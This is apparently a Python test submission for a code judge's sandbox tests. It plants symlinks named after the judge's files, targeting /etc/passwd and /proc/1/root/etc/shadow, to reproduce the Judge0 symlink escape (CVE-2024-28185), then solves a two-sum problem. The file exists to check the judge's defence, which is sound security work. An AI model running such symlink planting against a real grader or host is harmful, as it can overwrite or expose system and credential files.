"""Plants symlinks named like the judge's own files (the submission, the runner, the database, the
Hypothesis and staging directories) wherever it can write, pointing at files an outside writer must
never touch — the Judge0 escape (CVE-2024-28185). Then solves the problem. Expected: accepted
(genuinely correct); the host never writes to a path the container can write."""
import os

TARGETS = ["/etc/passwd", "/proc/1/root/etc/shadow", "/submission/solution.py", "/"]
NAMES = ["solution.py", "runner.py", "wire.py", "submission.py", "judge.db", "judge.db-wal", "hypothesis",
         "staging", "submission-x", "drill-judge-submission-x", ".hypothesis", "prepared", "@CANARY@"]
planted = 0
for directory in ("/tmp", os.path.expanduser("~"), os.getcwd(), "/dev/shm"):
    for n, name in enumerate(NAMES):
        try:
            os.symlink(TARGETS[n % len(TARGETS)], os.path.join(directory, name))
            planted += 1
        except FileExistsError:
            pass
try:
    os.symlink("/etc/passwd", "/submission/solution.py.new")
except OSError:
    pass  # a read-only mount: the judge's own directory stays as the judge made it
assert planted >= len(NAMES), planted


def two_sum_sorted(numbers, target):
    lo, hi = 0, len(numbers) - 1
    while numbers[lo] + numbers[hi] != target:
        if numbers[lo] + numbers[hi] < target:
            lo += 1
        else:
            hi -= 1
    return [lo + 1, hi + 1]
